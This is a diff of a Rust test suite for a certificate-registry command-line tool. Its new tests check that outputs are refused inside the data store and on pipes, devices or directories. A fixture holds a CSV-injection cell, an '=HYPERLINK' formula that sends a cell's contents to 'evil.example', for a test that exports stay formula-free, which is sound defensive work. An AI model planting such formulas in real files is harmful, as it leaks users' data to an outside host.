@@ -242,6 +242,98 @@ fn backup_refuses_a_file_inside_the_store() {
     ));
 }
 
+#[test]
+fn no_output_goes_inside_the_store() {
+    let (dir, db, _) = store_and_backup();
+    let link = dir.path().join("link");
+    symlink(&db, &link).unwrap();
+    let before = fs::read(db.join("sled/db")).unwrap();
+    let targets = [
+        db.join("sled/db"),
+        db.join("seal"),
+        db.join("out.csv"),
+        link.join("sled/db"),
+    ];
+    for target in &targets {
+        let target = target.to_str().unwrap();
+        for args in [
+            &["export", "municipalities", "--format", "csv", "-o", target][..],
+            &["export", "certificates", "-o", target],
+            &["report", "-o", target],
+            &["backup", target],
+        ] {
+            let err = failed(ocsae(&db, args));
+            assert!(err.contains("is inside the store"), "{args:?}: {err}");
+        }
+    }
+    assert_eq!(
+        fs::read(db.join("sled/db")).unwrap(),
+        before,
+        "the store is as it was"
+    );
+    assert!(!db.join("out.csv").exists());
+    // The store still opens and reads.
+    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 2);
+}
+
+#[test]
+fn an_output_that_is_a_device_a_pipe_or_a_directory_is_refused_and_dash_is_stdout() {
+    use std::os::unix::fs::FileTypeExt;
+    let (dir, db, _) = store_and_backup();
+    let fifo = dir.path().join("fifo");
+    let name = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
+    let to_null = dir.path().join("null-link");
+    symlink("/dev/null", &to_null).unwrap();
+    let mut nodes = vec![fifo.clone(), to_null.clone(), dir.path().to_path_buf()];
+    // A device of our own, as root can make one (the repro's `mknod n c 1 3`).
+    let device = dir.path().join("n");
+    let name = std::ffi::CString::new(device.as_os_str().as_encoded_bytes()).unwrap();
+    if unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 3)) } == 0 {
+        nodes.push(device.clone());
+    }
+    for node in &nodes {
+        let target = node.to_str().unwrap();
+        for args in [
+            &["export", "rollout", "-o", target][..],
+            &["report", "-o", target],
+            &["backup", target],
+        ] {
+            let err = failed(ocsae(&db, args));
+            assert!(
+                err.contains("is not a regular file") && err.contains("use -o -"),
+                "{args:?}: {err}"
+            );
+        }
+    }
+    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
+    assert!(fs::symlink_metadata(&to_null).unwrap().file_type().is_symlink());
+    if nodes.contains(&device) {
+        assert!(
+            fs::symlink_metadata(&device)
+                .unwrap()
+                .file_type()
+                .is_char_device()
+        );
+    }
+    // `-o -` is standard output, for every writer.
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(ocsae(&db, &["export", "certificates", "-o", "-"]))).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 2);
+    assert!(ok(ocsae(&db, &["report", "-o", "-"])).contains("Noguera"));
+    let out = ocsae(&db, &["backup", "-"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let backup: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(backup["certificates"].as_array().unwrap().len(), 2);
+    assert!(
+        text(&out.stderr).contains("Backup written"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert!(!dir.path().join("-").exists());
+}
+
 /// A row whose cells a spreadsheet would run, as typed in the office's sheet.
 const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
     252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
@@ -352,8 +444,16 @@ fn a_spreadsheet_splitting_on_semicolons_finds_no_formula_either() {
         ok(ocsae(
             &db,
             &[
-                "cert", "add", "--municipality", "252228", "--role", "other", "--type", "tcat",
-                "--holder", holder,
+                "cert",
+                "add",
+                "--municipality",
+                "252228",
+                "--role",
+                "other",
+                "--type",
+                "tcat",
+                "--holder",
+                holder,
             ],
         ));
     }
@@ -374,7 +474,10 @@ fn a_spreadsheet_splitting_on_semicolons_finds_no_formula_either() {
     let other = tempfile::tempdir().unwrap();
     let other_db = other.path().join("db");
     ok(ocsae(&other_db, &["init"]));
-    ok(ocsae(&other_db, &["import", "certificates", exported.to_str().unwrap()]));
+    ok(ocsae(
+        &other_db,
+        &["import", "certificates", exported.to_str().unwrap()],
+    ));
     let json: serde_json::Value =
         serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
     let back: Vec<&str> = json.as_array().unwrap()[2..]
